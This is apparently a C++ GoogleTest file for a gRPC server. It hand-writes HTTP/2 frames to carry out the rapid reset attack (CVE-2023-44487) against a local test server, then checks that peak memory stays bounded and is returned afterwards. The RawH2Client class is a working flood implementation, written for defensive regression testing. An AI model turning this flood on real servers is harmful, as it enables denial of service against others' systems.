// HTTP/2 rapid reset (CVE-2023-44487): a client opens streams with HEADERS
// and cancels each at once with RST_STREAM. The frames are written by hand
// on a plain socket so no client library paces or coalesces the attack.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <string_view>

#include "proc_stats.h"
#include "server_test_util.h"

namespace kvidx::server::testing {
namespace {

using namespace std::chrono_literals;

constexpr uint8_t kHeaders = 0x1;
constexpr uint8_t kRstStream = 0x3;
constexpr uint8_t kSettings = 0x4;
constexpr uint8_t kPing = 0x6;
constexpr uint8_t kEndHeaders = 0x4;
constexpr uint8_t kAck = 0x1;
constexpr uint32_t kCancel = 0x8;

void PutU32(std::string* out, uint32_t v) {
  for (int shift : {24, 16, 8, 0}) out->push_back(static_cast<char>((v >> shift) & 0xff));
}

void PutFrameHeader(std::string* out, uint32_t len, uint8_t type, uint8_t flags, uint32_t stream) {
  for (int shift : {16, 8, 0}) out->push_back(static_cast<char>((len >> shift) & 0xff));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  PutU32(out, stream & 0x7fffffffu);
}

// One HPACK "literal header field without indexing -- new name", no
// Huffman; names and values here are shorter than 127 bytes.
void PutLiteral(std::string* block, std::string_view name, std::string_view value) {
  block->push_back(0x00);
  block->push_back(static_cast<char>(name.size()));
  block->append(name);
  block->push_back(static_cast<char>(value.size()));
  block->append(value);
}

std::string GrpcRequestHeaders(std::string_view path) {
  std::string b;
  PutLiteral(&b, ":method", "POST");
  PutLiteral(&b, ":scheme", "http");
  PutLiteral(&b, ":path", path);
  PutLiteral(&b, ":authority", "127.0.0.1");
  PutLiteral(&b, "content-type", "application/grpc");
  PutLiteral(&b, "te", "trailers");
  return b;
}

// A raw HTTP/2 client connection; a thread reads and drops whatever the
// server sends so the server's writes never stall on us.
class RawH2Client {
 public:
  explicit RawH2Client(int port) {
    fd_ = socket(AF_INET, SOCK_STREAM, 0);
    timeval tv{10, 0};
    setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    connected_ = connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    PutFrameHeader(&hello, 0, kSettings, 0, 0);
    PutFrameHeader(&hello, 0, kSettings, kAck, 0);
    connected_ = connected_ && Send(hello);
    drain_ = std::thread([this] { Drain(); });
  }
  ~RawH2Client() {
    shutdown(fd_, SHUT_RDWR);
    drain_.join();
    close(fd_);
  }

  // Opens `n` streams on `path`, each reset right after its HEADERS.
  // False once the server has closed the connection.
  bool RapidReset(int n, std::string_view path) {
    const std::string block = GrpcRequestHeaders(path);
    std::string batch;
    for (int i = 0; i < n; ++i) {
      PutFrameHeader(&batch, static_cast<uint32_t>(block.size()), kHeaders, kEndHeaders, next_stream_);
      batch += block;
      PutFrameHeader(&batch, 4, kRstStream, 0, next_stream_);
      PutU32(&batch, kCancel);
      next_stream_ += 2;
      if (batch.size() >= 64 * 1024 || i + 1 == n) {
        if (!Send(batch)) return false;
        batch.clear();
      }
    }
    return connected_;
  }

  // Sends a PING and waits for its ACK: the server has then parsed every
  // frame sent before it (and created a call for each HEADERS).
  bool PingPong(std::chrono::seconds timeout) {
    const int acks = ping_acks_.load();
    std::string ping;
    PutFrameHeader(&ping, 8, kPing, 0, 0);
    ping.append(8, '\x42');
    if (!Send(ping)) return false;
    const auto end = std::chrono::steady_clock::now() + timeout;
    while (ping_acks_.load() == acks) {
      if (closed_by_server_.load() || std::chrono::steady_clock::now() > end) return false;
      std::this_thread::sleep_for(5ms);
    }
    return true;
  }

 private:
  // Reads frames until the connection ends, counting PING ACKs.
  void Drain() {
    std::string in;
    char buf[65536];
    for (;;) {
      const ssize_t n = recv(fd_, buf, sizeof buf, 0);
      if (n <= 0) break;
      in.append(buf, static_cast<size_t>(n));
      size_t off = 0;
      while (in.size() - off >= 9) {
        const auto* h = reinterpret_cast<const uint8_t*>(in.data() + off);
        const size_t len = (size_t{h[0]} << 16) | (size_t{h[1]} << 8) | h[2];
        if (in.size() - off < 9 + len) break;
        if (h[3] == kPing && (h[4] & kAck) != 0) ping_acks_.fetch_add(1);
        off += 9 + len;
      }
      in.erase(0, off);
    }
    closed_by_server_.store(true);
  }

  bool Send(const std::string& bytes) {
    size_t off = 0;
    while (off < bytes.size()) {
      const ssize_t n = send(fd_, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
      if (n <= 0) return false;
      off += static_cast<size_t>(n);
    }
    return true;
  }

  int fd_ = -1;
  bool connected_ = false;
  uint32_t next_stream_ = 1;
  std::atomic<bool> closed_by_server_{false};
  std::atomic<int> ping_acks_{0};
  std::thread drain_;
};

// Samples RSS every few milliseconds and keeps the peak.
class PeakRss {
 public:
  PeakRss() : thread_([this] {
      while (!stop_.load()) {
        uint64_t now = RssBytes();
        uint64_t prev = peak_.load();
        while (now > prev && !peak_.compare_exchange_weak(prev, now)) {
        }
        std::this_thread::sleep_for(5ms);
      }
    }) {}
  ~PeakRss() {
    stop_.store(true);
    thread_.join();
  }
  uint64_t peak() const { return peak_.load(); }

 private:
  std::atomic<bool> stop_{false};
  std::atomic<uint64_t> peak_{0};
  std::thread thread_;
};

// HEADERS + RST_STREAM on FindPrefix, a callback method. In gRPC 1.51 each
// reset stream costs ~20 KB of call state until gRPC's executor has torn it
// down, and the transport parses a flood faster than that: the peak grows
// with the streams in one burst (8,000 stay under the 256 MB bound;
// 100,000 do not, which only a gRPC with the CVE-2023-44487 fixes or a
// proxy in front can prevent). What kvidx guarantees is that the memory goes
// back to the OS once the backlog has drained (HeapTrimmer); before, glibc
// kept it for the life of the process.
TEST(RapidResetTest, MemoryOfAFloodIsBoundedAndReturned) {
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
  GTEST_SKIP() << "a sanitizer's allocator keeps freed memory (quarantine, shadow): RSS says nothing here";
#endif
  constexpr int kStreams = 8000;
  constexpr uint64_t kPeakBound = uint64_t{256} << 20;
  // HeapTrimmer acts on 64 MiB above its baseline; what a trim cannot give
  // back (pages still partly in use) is the rest of the margin.
  constexpr uint64_t kReturnedBound = uint64_t{96} << 20;
  TempDir dir;
  RunningServer rs = StartServer(TestConfig(dir, /*persistent=*/false));
  ASSERT_NE(rs.server, nullptr);
  v1::FindPrefixResponse resp;
  ASSERT_TRUE(QueryTokens(rs.stubs.index.get(), Prompt(1, 64), &resp).ok());
  // The server's heap watch measures bursts from the RSS it saw first.
  std::this_thread::sleep_for(200ms);
  const uint64_t idle = RssBytes();
  uint64_t peak = 0;
  {
    PeakRss sampler;
    RawH2Client attacker(rs.server->grpc_port());
    ASSERT_TRUE(attacker.RapidReset(kStreams, "/kvidx.v1.KvIndex/FindPrefix"));
    ASSERT_TRUE(attacker.PingPong(30s));
    // The server still answers while it works through the backlog.
    EXPECT_TRUE(QueryTokens(rs.stubs.index.get(), Prompt(1, 64), &resp).ok());
    // Returned: RSS back near idle.
    const bool returned = WaitFor([&] { return RssBytes() < idle + kReturnedBound; }, 30s);
    peak = sampler.peak();
    EXPECT_TRUE(returned) << "RSS still " << Mib(RssBytes() - idle) << " MiB above idle after 30 s";
  }
  const uint64_t rise = peak > idle ? peak - idle : 0;
  EXPECT_LT(rise, kPeakBound) << "peak " << Mib(rise) << " MiB above idle";
  std::cerr << "rapid reset, " << kStreams << " streams: idle " << Mib(idle) << " MiB, peak +" << Mib(rise) << " MiB\n";
}

}  // namespace
}  // namespace kvidx::server::testing
